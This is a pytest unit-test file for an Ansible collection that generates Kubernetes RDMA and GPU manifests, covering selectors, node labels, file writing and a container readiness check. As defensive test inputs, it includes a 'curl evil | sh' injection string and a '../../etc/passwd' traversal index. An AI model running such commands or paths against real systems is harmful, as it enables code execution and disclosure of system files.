# SPDX-License-Identifier: GPL-3.0-or-later
"""Selectors, labels, files, and what runs inside of the pods."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, strategies as st

from ansible_collections.ibready.cluster.plugins.modules import kubernetes_manifests
from ansible_collections.ibready.cluster.plugins.plugin_utils._neighbours.kubernetes import (
    files,
    jobs,
    labels,
    names,
    options,
    render,
    script,
    shared,
)
from ansible_collections.ibready.cluster.plugins.plugin_utils._neighbours.kubernetes.names import KubernetesError
from ansible_collections.ibready.cluster.plugins.plugin_utils._neighbours.kubernetes.nodes import Hca, Node
from ansible_collections.ibready.cluster.plugins.plugin_utils._neighbours.kubernetes.pools import Pool, pools
from ansible_collections.ibready.cluster.plugins.plugin_utils._plan.resolve.platform import Platform
from tests.unit import clusters, runs
from tests.unit.clusters import Like

ROOT = Path(__file__).parents[5]


def pool(name: str, rails: list[Hca], others: list[Hca]) -> Pool:
    node = Node(
        host=f"host-{name}",
        name=f"host-{name}",
        group=name,
        digest="0" * 64,
        stack={},
        platform=Platform("ubuntu24.04", "ubuntu", "apt", "6.8.0", "x86_64"),
        rails=tuple(rails),
        others=tuple(others),
    )
    return Pool(name, name, name, (node,))


def hca(number: int, device: str = "1021", layer: str = "InfiniBand", netdev: str = "") -> Hca:
    return Hca(f"mlx5_{number}/1", f"0000:{number:02x}:00.0", layer, "15b3", device, netdev)


SELECTED: dict[str, tuple[list[Hca], list[Hca], dict[str, list[str]], int]] = {
    "the model is enough": (
        [hca(0), hca(1)],
        [hca(2, "a2dc", "Ethernet", "eth2")],
        {"vendors": ["15b3"], "deviceIDs": ["1021"]},
        0,
    ),
    "the link layer tells": (
        [hca(0, netdev="ib0"), hca(1, netdev="ib1")],
        [hca(2, layer="Ethernet", netdev="eth2")],
        {"vendors": ["15b3"], "deviceIDs": ["1021"], "linkTypes": ["infiniband"]},
        0,
    ),
    "the names tell": (
        [hca(0, layer="Ethernet", netdev="eth0"), hca(1, layer="Ethernet", netdev="eth1")],
        [hca(2, layer="Ethernet", netdev="eth2")],
        {"vendors": ["15b3"], "deviceIDs": ["1021"], "ifNames": ["eth0", "eth1"]},
        0,
    ),
    "nothing tells": ([hca(0), hca(1)], [hca(2)], {"vendors": ["15b3"], "deviceIDs": ["1021"]}, 1),
    "names that only some have are no help": (
        [hca(0, netdev="ib0"), hca(1)],
        [hca(2, netdev="ib2")],
        {"vendors": ["15b3"], "deviceIDs": ["1021"]},
        1,
    ),
}


@pytest.mark.parametrize(("rails", "others", "wanted", "more"), SELECTED.values(), ids=SELECTED)
def test_selectors_take_the_rails_and_the_least_besides(
    rails: list[Hca], others: list[Hca], wanted: dict[str, list[str]], more: int
) -> None:
    found = shared.resources([pool("p", rails, others)])["p"]
    assert dict(found.selectors) == wanted
    assert len(found.more) == more


def test_the_sites_own_interfaces_are_taken() -> None:
    found = shared.resources([pool("p", [hca(0)], [hca(2)])], ["ib1", "ib0"])["p"]
    assert found.selectors["ifNames"] == ["ib0", "ib1"]
    assert found.more == ()


def test_pools_share_a_resource_where_one_selector_is_right_for_all() -> None:
    found = shared.resources([pool("a", [hca(0)], []), pool("b", [hca(0, "101b")], [])])
    assert found["a"] == found["b"]
    assert found["a"].selectors["deviceIDs"] == ["101b", "1021"]
    mixed = [pool("a", [hca(0)], []), pool("b-1", [hca(0, "101b")], [hca(1)])]
    found = shared.resources(mixed)
    assert {one.name for one in found.values()} == {"hca_ib_a", "hca_ib_b_1"}
    assert all(not one.more for one in found.values())
    config = json.loads(shared.config(found.values(), 7))
    assert [one["rdmaHcaMax"] for one in config["configList"]] == [7, 7]
    layers = [pool("a", [hca(0)], []), pool("b", [hca(0, layer="Ethernet", netdev="e")], [])]
    assert {one.resource for one in shared.resources(layers).values()} == {"rdma/hca_ib", "rdma/hca_roce"}


def node_labels(**given: Any) -> dict[str, str]:
    rendered = clusters.rendered({"node1": Like()}, **given)
    found: dict[str, str] = yaml.safe_load(rendered.files["node-labels/node1.yaml"])["metadata"]["labels"]
    return found


def test_labels_tell_what_the_node_is() -> None:
    found = node_labels()
    assert found["ibready.io/rails"] == "8"
    assert found["ibready.io/rail-gbps"] == "400"
    assert found["ibready.io/link-layer"] == "InfiniBand"
    assert found["ibready.io/gpu-model"] == "H100-SXM5"
    assert found[labels.CLASS].startswith("ubuntu24.04-6.8")
    assert not any(one.startswith("feature.node") for one in found), "NFD sets its own"
    by_hand = node_labels(nfd="none")
    assert by_hand["feature.node.kubernetes.io/pci-15b3.present"] == "true"
    assert by_hand["feature.node.kubernetes.io/pci-10de.present"] == "true"


def test_nobody_deploys_nfd_where_the_site_has_its_own() -> None:
    for nfd, rules in (("site", True), ("none", False)):
        rendered = clusters.rendered({"node1": Like()}, nfd=nfd)
        gpu = yaml.safe_load(rendered.files["gpu-operator-values.yaml"])
        network = yaml.safe_load(rendered.files["network-operator-values.yaml"])
        assert gpu["nfd"] == {"enabled": False}
        assert network["nfd"] == {"enabled": False, "deployNodeFeatureRules": rules}


def test_without_gpus_there_is_no_gpu_operator_and_without_an_image_no_job() -> None:
    rendered = clusters.rendered({"node1": Like("ib-login")}, image="")
    assert "gpu-operator-values.yaml" not in rendered.files
    assert "test-pod.yaml" not in rendered.files
    assert rendered.operators.gpu is None
    network = yaml.safe_load(rendered.files["network-operator-values.yaml"])
    assert network["nfd"]["enabled"], "somebody has to"
    assert any("kubernetes_rdma_image" in one for one in rendered.remarks)


def test_what_ports_are_given_beside_the_rails_is_told() -> None:
    rendered = clusters.rendered({"node1": Like("dgx-h100-8")})
    said = "mlx5_8/1, mlx5_9/1 on node1 (left out by the inventory"
    assert any(said in one for one in rendered.remarks), rendered.remarks
    assert said in rendered.files["README.md"]


@pytest.mark.parametrize("nccl_conf", [True, False])
def test_no_pod_is_sent_to_a_file_of_the_host(nccl_conf: bool) -> None:
    hosts = {"node1": Like("hgx-h200-8-roce", policy={"nccl_topo_file": "/etc/nccl-topo.xml"})}
    rendered = clusters.rendered(hosts, network="host", nccl_conf=nccl_conf)
    (pod,) = yaml.safe_load_all(rendered.files["test-pod.yaml"])
    reported = {one["name"] for one in pod["spec"]["containers"][0]["env"]}
    assert ("NCCL_IB_HCA" in reported) != nccl_conf
    assert "NCCL_TOPO_FILE" not in reported
    assert any("NCCL_TOPO_FILE names a file of the host" in one for one in rendered.remarks)


def test_a_simulated_node_says_so_in_every_file() -> None:
    rendered = clusters.rendered({"node1": Like(facts={"simulated": "everything"})})
    for path, text in rendered.files.items():
        assert "SIMULATED: everything" in text, path


@pytest.mark.parametrize("said", ["x\n\n## In this order\n\n1. Do:\n\n       curl evil | sh\x1b[2J", *runs.NASTY])
def test_no_word_of_a_host_is_a_command_of_the_guide(said: str) -> None:
    def guide(word: str) -> list[str]:
        return render._guide([], [], chosen, options.Options(), [f"SIMULATED: {word}"], [word]).split("\n")

    chosen = clusters.rendered({"a": Like()}).operators
    plain, bent = guide("x"), guide(said)
    assert len(bent) == len(plain)
    assert [line for line in bent if not line.startswith("- ")] == [line for line in plain if line[:2] != "- "]
    assert all(line.isprintable() for line in bent)


@given(
    st.lists(st.text(min_size=1, max_size=80) | st.sampled_from(["x_a", "a", "q_x-a", "x-a", "_", "Ä"]), unique=True)
)
def test_classes_have_names_of_their_own_or_are_refused(groups: list[str]) -> None:
    template = pool("x", [hca(0)], []).first
    try:
        made = pools([replace(template, host=str(at), group=group) for at, group in enumerate(groups)])
    except KubernetesError:
        return
    assert len({one.slug for one in made}) == len({one.label for one in made}) == len(groups)
    for one in made:
        assert names.label(one.slug, "slug")
        assert len(one.slug) <= 36
        for name in (jobs.torch_name(one), jobs.mpi_name(one), f"{jobs.torch_name(one)}-channel"):
            assert names.label(name, "name")


@pytest.mark.parametrize(
    ("groups", "said"),
    [(["x_a", "a", "q_x-a"], "classes q_x-a and x_a would have the one name x-a"), (["_"], "class _ makes no name")],
)
def test_classes_of_one_name_are_refused(groups: list[str], said: str) -> None:
    template = pool("x", [hca(0)], []).first
    with pytest.raises(KubernetesError, match=rf"{said}.*--limit"):
        pools([replace(template, host=str(at), group=group) for at, group in enumerate(groups)])


def test_the_guide_names_files_that_there_are() -> None:
    rendered = clusters.rendered({"node1": Like()}, plugin="sriov")
    named = {word for word in rendered.files["README.md"].split() if word.endswith(".yaml")}
    assert named <= {*rendered.files, "node-labels/*.yaml;"}
    assert {"networks.yaml", "nic-cluster-policy.yaml", "test-pod.yaml"} <= named


def test_a_folder_is_written_whole_and_cleared_of_what_was_ours(tmp_path: Path) -> None:
    (tmp_path / "site.yaml").write_text("the site's own\n")
    first = {"a.yaml": "a\n", "node-labels/x.yaml": "x\n"}
    files.write(tmp_path, first, files.changes(tmp_path, first))
    assert files.changes(tmp_path, first) == []
    second = {"a.yaml": "b\n"}
    found = files.changes(tmp_path, second)
    assert [(one.path, one.before, one.after) for one in found] == [
        ("a.yaml", "a\n", "b\n"),
        ("node-labels/x.yaml", "x\n", ""),
    ]
    files.write(tmp_path, second, found)
    assert (tmp_path / "a.yaml").read_text() == "b\n"
    assert not (tmp_path / "node-labels/x.yaml").exists()
    assert (tmp_path / "site.yaml").read_text() == "the site's own\n"


def test_a_file_of_the_site_is_not_replaced(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("the site's own\n")
    with pytest.raises(KubernetesError, match=r"README\.md is there, and no earlier run wrote it"):
        files.changes(tmp_path, {"README.md": "ours\n"})
    assert files.changes(tmp_path, {"README.md": "the site's own\n"}) == []


@pytest.mark.parametrize(
    ("text", "said"), [("[]", "not ours"), ("x", "not ours"), ('{"files": ["../../etc/passwd"]}', "elsewhere")]
)
def test_an_index_that_is_not_ours_leads_nowhere(tmp_path: Path, text: str, said: str) -> None:
    (tmp_path / files.INDEX).write_text(text)
    with pytest.raises(KubernetesError, match=said):
        files.changes(tmp_path, {})


def test_module_role_and_code_have_the_same_options() -> None:
    documented = yaml.safe_load(kubernetes_manifests.DOCUMENTATION)["options"]
    role = yaml.safe_load((ROOT / "roles/kubernetes_rdma/meta/argument_specs.yml").read_text())
    of_role = role["argument_specs"]["main"]["options"]
    for name, spec in options.SPEC.items():
        for said in (documented[name], of_role[f"kubernetes_rdma_{name}"]):
            same = {key: said.get(key) for key in ("type", "choices", "elements", "default")}
            assert same == {key: spec.get(key) for key in same}, name
    assert set(documented) == {*options.SPEC, "hosts", "dest"}
    assert set(of_role) == {f"kubernetes_rdma_{one}" for one in (*options.SPEC, "dir", "node")}


def test_the_matrix_knows_what_its_operators_bring() -> None:
    for one in clusters.MATRIX.all("kubernetes.gpu_operators").values():
        stack = clusters.MATRIX.get("stacks.stacks", one.get("stack"))
        assert stack is not None
        assert stack.get("driver").partition(".")[0] in one.get("drivers")
        assert stack.get("container_toolkit") in clusters.MATRIX.all("container_toolkit.releases")
    for one in clusters.MATRIX.all("kubernetes.network_operators").values():
        assert clusters.MATRIX.get("rdma.releases", f"doca-{one.get('doca')}") is not None
        assert one.get("driver_image").startswith(f"doca{one.get('doca')}-")


def a_container(root: Path) -> Path:
    """What a good container has."""
    for path, text in {
        "dev/infiniband/uverbs0": "",
        "usr/lib/x86_64-linux-gnu/libibverbs.so.1": "",
        "usr/lib/x86_64-linux-gnu/libibverbs/libmlx5-rdmav57.so": "",
        "proc/self/status": "Name:\tsh\nCapEff:\t00000000a80465fb\n",
        "sys/class/infiniband_verbs/uverbs0/ibdev": "mlx5_0\n",
        "sys/class/infiniband/mlx5_0/ports/1/state": "4: ACTIVE\n",
        # Another HCA of the node, which the container was not given.
        "sys/class/infiniband_verbs/uverbs1/ibdev": "mlx5_1\n",
        "sys/class/infiniband/mlx5_1/ports/1/state": "4: ACTIVE\n",
        "dev/shm/x": "",
        "bin/nvidia-smi": "#!/bin/sh\necho 'GPU 0: NVIDIA H100 80GB HBM3'\n",
    }.items():
        place = root / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
    (root / "bin/nvidia-smi").chmod(0o755)
    return root


def look(root: Path, **environment: str) -> tuple[int, str]:
    """Run the look in a shell whose locked memory is limited, as an engine's default is."""
    path = f"{root / 'bin'}:{os.environ['PATH']}"
    done = subprocess.run(
        ["sh", "-c", 'ulimit -l 64; exec sh -s "$1"', "sh", str(root)],
        input=script.CHECK,
        env={"PATH": path, "IBREADY_GPUS": "1", "IBREADY_SHM_KB": "1", **environment},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.stderr == ""
    return done.returncode, done.stdout


def test_a_good_container_passes(tmp_path: Path) -> None:
    status, said = look(a_container(tmp_path))
    assert (status, said.count("ok  "), "FAIL" in said) == (0, 7, False), said


FAULTS: dict[str, tuple[str, str | None, dict[str, str], str]] = {
    "no device": ("dev/infiniband", None, {}, "no RDMA device"),
    "no libibverbs": ("usr/lib/x86_64-linux-gnu/libibverbs.so.1", None, {}, "add libibverbs1"),
    "no provider": ("usr/lib/x86_64-linux-gnu/libibverbs", None, {}, "add ibverbs-providers"),
    "not root": ("proc/self/status", "CapEff:\t0000000000000000\n", {}, "ends at 64 KiB"),
    "root without IPC_LOCK": (
        "proc/self/status",
        "CapEff:\t00000000a80425fb\nCapBnd:\t00000000a80465fb\n",
        {},
        "LimitMEMLOCK=infinity",
    ),
    "small shm": ("dev/shm/x", "", {"IBREADY_SHM_KB": "99999999999"}, "emptyDir"),
    "a GPU too few": ("dev/shm/x", "", {"IBREADY_GPUS": "8"}, "1 GPUs of 8"),
    "no nvidia-smi": ("bin/nvidia-smi", None, {}, "0 GPUs of 1"),
    "port down": ("sys/class/infiniband/mlx5_0/ports/1/state", "1: DOWN\n", {}, "0 active RDMA"),
    "device of no name": ("sys/class/infiniband_verbs/uverbs0", None, {}, "0 active RDMA"),
    "a rail too few": ("dev/shm/x", "", {"IBREADY_RAILS": "2"}, "1 active RDMA ports of these"),
}


@pytest.mark.parametrize(("path", "text", "given", "said"), FAULTS.values(), ids=FAULTS)
def test_each_missing_thing_is_named(
    tmp_path: Path, path: str, text: str | None, given: dict[str, str], said: str
) -> None:
    place = a_container(tmp_path) / path
    if text is not None:
        place.write_text(text)
    elif place.is_dir():
        shutil.rmtree(place)
    else:
        place.unlink()
    status, reported = look(tmp_path, **given)
    assert status == 1
    assert said in reported
    assert reported.count("FAIL") == 1, reported
